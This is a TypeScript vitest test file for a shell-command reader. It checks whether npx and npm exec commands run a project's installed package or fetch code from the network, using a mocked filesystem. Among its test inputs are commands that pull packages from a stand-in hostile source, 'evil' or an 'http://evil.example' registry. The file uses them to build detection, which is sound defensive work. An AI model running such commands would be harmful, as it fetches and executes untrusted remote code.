/** npx and npm exec: a program of the project's own packages is run, not fetched; every other one is. */
import { expect, test } from "vitest";
import type { PathInfo, World } from "../contract/world.ts";
import { readShell } from "../readers/bash/index.ts";

const ABSENT: PathInfo = { kind: "absent", size: 0, mtimeMs: 0, links: 1, executable: false };
const INSTALLED = ["/app/node_modules/.bin/tape", "/other/node_modules/.bin/tool", "/node_modules/.bin/root"];
const world: World = {
  platform: "linux",
  home: "/home/me",
  path: ["/usr/bin"],
  lstat: () => ABSENT,
  stat: (path) => (INSTALLED.includes(path) ? { ...ABSENT, kind: "file" } : ABSENT),
  readLink: () => undefined,
  readFile: () => undefined,
  readDir: () => undefined,
};
const doesFetch = (command: string): boolean =>
  readShell(command, { cwd: "/app/sub", projectRoot: "/app", world, written: new Set() }).effects.some(
    (effect) => effect.do === "network",
  );

test.each([
  ["npx tape test/a.js", false],
  ["npx --no-install tape test/a.js", false],
  ["npm exec tape test/a.js", false],
  ["npx tape@4 test/a.js", true],
  ["npx -p evil tape test/a.js", true],
  ["npx --registry http://evil.example tape", true],
  ["npx --prefix /other tape", true],
  ["npx /other/node_modules/.bin/tool", true],
  ["npx ../other/node_modules/.bin/tool", true],
  ["npx tool", true],
  ["npx root", true],
  ['npx "$NAME"', true],
  ["cd /tmp && npx tape", true],
  ["cd $SOMEWHERE && npx tape", true],
  ["npm init tape", true],
])("%s: fetches %s", (command, fetches) => {
  expect(doesFetch(command)).toBe(fetches);
});
